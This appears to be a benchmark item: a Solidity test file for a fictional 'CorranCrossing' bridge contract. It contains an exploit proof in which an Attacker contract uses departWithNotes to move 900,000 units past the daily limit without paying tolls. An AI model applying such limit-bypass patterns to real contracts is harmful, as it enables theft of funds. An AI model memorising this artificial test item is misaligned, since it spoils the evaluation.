// SPDX-License-Identifier: MIT
pragma solidity 0.8.24;

// assay-canary-58b232a5-6e67-4d1b-b664-e43f81d9488b

import "./CorranCrossing.sol";

interface Vm {
    function warp(uint256 timestamp) external;
    function expectRevert(bytes4 reason) external;
    function expectRevert(bytes calldata reason) external;
    function prank(address sender) external;
}

contract Islander {
    function cash(CorranCrossing crossing, uint256 amount) external {
        crossing.cashNotes(amount);
    }

    function depart(CorranCrossing crossing, uint256 amount) external {
        crossing.depart(address(this), amount);
    }

    function departWithNotes(CorranCrossing crossing, uint256 amount) external {
        crossing.departWithNotes(address(this), amount);
    }
}

/// Has brought a large sum to the island.
contract Attacker {
    function run(CorranCrossing crossing) external {
        crossing.departWithNotes(address(this), crossing.notes().balanceOf(address(this)));
    }
}

contract Proof {
    Vm private constant vm = Vm(0x7109709ECfa91a80626fF3989D68f67F5b1DD12D);
    uint256 private constant START = 20_500 days;

    Courier public courier;
    CorranCrossing public crossing;
    Islander public ina;
    Attacker public haste;

    function setUp() public {
        vm.warp(START + 8 hours);
        courier = new Courier();
        crossing = new CorranCrossing(courier, 400_000e18, 250_000e18);
        courier.connect(crossing);
        ina = new Islander();
        haste = new Attacker();
        courier.deliver(address(ina), 300_000e18);
        courier.deliver(address(haste), 900_000e18);
    }

    // What has left on this day stays within the limit.
    function withinDailyLimit() public view returns (bool) {
        return courier.postedOn(block.timestamp / 1 days) <= 250_000e18;
    }

    function test_Regular() public {
        require(crossing.money().balanceOf(address(ina)) == 300_000e18, "money");
        require(crossing.notes().balanceOf(address(haste)) == 900_000e18, "notes");
        require(crossing.inboundRoom() == 100_000e18 && crossing.backing() == 1_200_000e18, "rooms");

        ina.depart(crossing, 100_000e18);
        (address to, uint256 amount,) = courier.outgoing(0);
        require(to == address(ina) && amount == 99_600e18, "less the toll");
        require(crossing.outboundRoom() == 150_000e18 && crossing.tollsDue() == 400e18, "counted");
        try ina.depart(crossing, 150_001e18) {
            revert("over the limit");
        } catch {}
        try ina.depart(crossing, 1e17) {
            revert("too small");
        } catch {}
        try ina.departWithNotes(crossing, 1e18) {
            revert("has no notes");
        } catch {}
        require(withinDailyLimit(), "within the limit");

        // A small arrival beyond the room becomes notes, which are cashed the next day.
        courier.deliver(address(ina), 101_000e18);
        require(crossing.notes().balanceOf(address(ina)) == 101_000e18, "as notes");
        try ina.cash(crossing, 101_000e18) {
            revert("no room today");
        } catch {}
        vm.warp(START + 1 days);
        ina.cash(crossing, 100_000e18);
        require(crossing.money().balanceOf(address(ina)) == 300_000e18, "cashed");
        require(crossing.inboundRoom() == 300_000e18, "room is used");
        ina.departWithNotes(crossing, 1_000e18);
        require(crossing.notes().balanceOf(address(ina)) == 0, "gone back");
        ina.depart(crossing, 200_000e18);

        crossing.setStormy(true);
        try ina.depart(crossing, 1e18) {
            revert("storm");
        } catch {}
        uint256 due = crossing.tollsDue();
        require(due >= 1_200e18 && crossing.collectTolls(address(this)) == due, "tolls");
        require(crossing.money().balanceOf(address(this)) == due && crossing.tollsDue() == 0, "collected");
        try courier.deliver(address(0), 1) {} catch {}
        try crossing.arrive(address(this), 1e18) {
            revert("courier only");
        } catch {}

        crossing.setLimits(1, 2);
    }

    // What is refused, each from the state after setUp().

    /// The next call is made by who, and reverts for this reason.
    function refuses(address who, bytes4 why) internal {
        vm.prank(who);
        vm.expectRevert(why);
    }

    /// The next call is made by who, and reverts for this reason.
    function refuses(address who, bytes memory why) internal {
        vm.prank(who);
        vm.expectRevert(why);
    }

    /// The warden's business, and crossings that are none.
    function test_RefusesCrossings() public {
        refuses(address(ina), CorranCrossing.NotWarden.selector);
        crossing.collectTolls(address(ina));
        refuses(address(ina), CorranCrossing.NotWarden.selector);
        crossing.setLimits(1, 1);
        refuses(address(ina), CorranCrossing.NotWarden.selector);
        crossing.setStormy(true);
        refuses(address(ina), CorranCrossing.NoRecipient.selector);
        crossing.depart(address(0), 1e18);
        refuses(address(haste), CorranCrossing.NoRecipient.selector);
        crossing.departWithNotes(address(0), 1e18);
        refuses(address(haste), abi.encodeWithSelector(CorranCrossing.TooSmall.selector, 1e17));
        crossing.departWithNotes(address(haste), 1e17);
        crossing.setStormy(true);
        refuses(address(haste), CorranCrossing.Stormy.selector);
        crossing.departWithNotes(address(haste), 1e18);
    }

    function exploit() public {
        haste.run(crossing);
    }

    function test_Exploit() public {
        exploit();
        require(!withinDailyLimit(), "within the limit");
        require(courier.postedOn(block.timestamp / 1 days) == 900_000e18 && crossing.tollsDue() == 0, "untolled");
    }

    function target() public view returns (address) {
        return address(crossing);
    }

    function attacker() public view returns (address) {
        return address(haste);
    }
}
